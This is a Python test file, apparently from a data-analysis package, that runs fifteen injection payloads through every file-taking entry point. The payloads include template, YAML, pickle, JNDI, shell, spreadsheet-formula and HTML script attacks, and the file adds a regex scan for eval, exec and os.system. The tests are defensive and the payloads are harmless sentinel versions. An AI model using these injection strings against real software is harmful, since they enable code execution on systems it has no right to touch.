"""No file can run a program: fifteen payloads through every entry that takes a file (S1)."""

import re
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from file_entries import ENTRIES, REFUSED

PACKAGE = Path(__file__).parents[2] / "feedbackstudy"
PAYLOADS = {
    "import": "__import__('os').system('touch SENTINEL')",
    "module": "os.system('touch SENTINEL')",
    "query": "@__import__('os').system('touch SENTINEL')",
    "formula": "x + I(__import__('os').system('touch SENTINEL'))",
    "braces": "{__import__('os').system('touch SENTINEL')}",
    "template": "{{7*7}}{{ cycler.__init__.__globals__.os.popen('touch SENTINEL').read() }}",
    "format": "{0.__class__.__mro__[1].__subclasses__} %(x)s %n",
    "yaml": "!!python/object/apply:os.system ['touch SENTINEL']",
    "jndi": "${jndi:ldap://127.0.0.1/a}",
    "shell": "$(touch SENTINEL)`touch SENTINEL`; touch SENTINEL",
    "dde": "=cmd|' /C touch SENTINEL'!A0",
    "link": '=HYPERLINK("https://example.org?x="&A1,"see")',
    "exec": "exec(\"open('SENTINEL','w')\")",
    "pickle": "cposix\nsystem\n(S'touch SENTINEL'\ntR.",
    "html": "<img src=x onerror=fetch('https://example.org')><script>alert(1)</script>",
}


def refusal(run) -> str | None:
    """Return why the file was refused; any exception but ours is a fault of ours and fails the test."""
    try:
        run()
    except REFUSED as fault:
        return str(fault)
    return None


@pytest.mark.parametrize("entry", ENTRIES, ids=lambda entry: entry.__name__)
def test_no_file_runs_a_program_and_every_refusal_has_words(entry, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    sentinel = tmp_path / "sentinel"
    used = refused = 0
    for turn, (kind, payload) in enumerate(PAYLOADS.items()):
        folder = tmp_path / kind
        folder.mkdir()
        for run in entry(folder, payload.replace("SENTINEL", str(sentinel)), turn):
            used += 1
            told = refusal(run)
            refused += told is not None
            assert told is None or len(told) > 20
            assert not sentinel.exists(), f"{entry.__name__} ran {kind}"
    assert used >= len(PAYLOADS)
    assert refused > 0


def test_the_package_holds_nothing_that_runs_text():
    found = {
        f"{path.relative_to(PACKAGE)}:{number}"
        for path in PACKAGE.rglob("*.py")
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if re.search(
            r"(?<![\w.])(eval|exec|compile)\(|\.query\(|\.eval\(|pickle\.load|shell=True|os\.system|yaml\.load\(|from_formula",
            line,
        )
    }
    # DuckDB's own query takes SQL that we write; names of columns are never part of it (`v001`, `v002` ...).
    assert {place.partition(":")[0] for place in found} <= {"policy/compression/duckdb_engine.py"}, found
